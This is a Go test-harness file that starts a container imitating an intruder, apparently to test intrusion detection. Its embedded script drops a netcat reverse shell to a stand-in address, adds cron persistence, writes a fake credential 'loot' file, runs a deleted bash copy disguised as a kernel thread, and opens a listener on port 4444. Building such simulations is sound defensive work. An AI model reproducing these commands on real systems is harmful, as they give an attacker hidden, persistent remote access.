package testbed

import (
	"archive/tar"
	"fmt"
	"os"
	"path/filepath"
)

// MisbehavingImage is the image of the container that Misbehave runs: the
// plain one with a shell that runs under whatever name it is given.
const MisbehavingImage = "amber.test/shop:1.4"

// ListenPort is the TCP port that the misbehaving container listens on.
const ListenPort = 4444

// misbehaviour is what an intruder does: drops files, copies a shell to a
// hidden name, runs that as if it were a kernel thread, deletes it while it
// runs, listens for whoever comes, and goes on writing. Each is one process.
const misbehaviour = `
echo "shop: serving"
mkdir -p /tmp/.cache
echo "db_password=hunter2" > /tmp/loot.txt
printf '#!/bin/sh\nnc 203.0.113.9 443 -e /bin/sh\n' > /tmp/dropper.sh
chmod 755 /tmp/dropper.sh
mkdir -p /etc/cron.d && echo "* * * * * root /tmp/dropper.sh" > /etc/cron.d/shop
mkfifo /tmp/.cache/wait
cp /bin/bash /tmp/.x
bash -c 'exec -a "[kworker/0:1]" /tmp/.x -c "exec 9<>/tmp/.cache/wait; while :; do read -t 1 -u 9; done"' &
until grep -q "^.kworker" /proc/$!/cmdline; do usleep 10000; done
rm /tmp/.x
nc -ll -p 4444 -e /bin/cat &
until grep -q ":115C " /proc/net/tcp /proc/net/tcp6; do usleep 10000; done
sh -c 'i=0; while :; do i=$((i+1)); echo "$i" > /tmp/.cache/count; echo "shop: order $i"; usleep 200000; done' &
touch /tmp/.cache/ready
wait
`

// Misbehave runs a container in which an intruder is at work, with its output
// in misbehaving.log in the testbed's folder. It returns when all of it runs.
func (c *Containerd) Misbehave(id string) (Running, error) {
	if err := Fetch("bash"); err != nil {
		return Running{}, err
	}
	if err := c.image(c.Namespace, MisbehavingImage, shell, bashLayer); err != nil {
		return Running{}, fmt.Errorf("making %s: %w", MisbehavingImage, err)
	}
	r, err := c.Start(id, misbehaviour, FromImage(MisbehavingImage), LogTo(filepath.Join(c.Dir, id+".log")))
	if err != nil {
		return r, err
	}
	ready := fmt.Sprintf("/proc/%d/root/tmp/.cache/ready", r.PID)
	if !waitFor(20e9, func() bool { _, err := os.Lstat(ready); return err == nil }) {
		log, _ := os.ReadFile(filepath.Join(c.Dir, id+".log"))
		return r, fmt.Errorf("the misbehaving container is not ready:\n%s", log)
	}
	return r, nil
}

func bashLayer(tw *tar.Writer) error {
	program, err := os.ReadFile(filepath.Join(binDir(bashDir), "bash"))
	if err != nil {
		return err
	}
	return entry(tw, "bin/bash", 0o755, string(program))
}
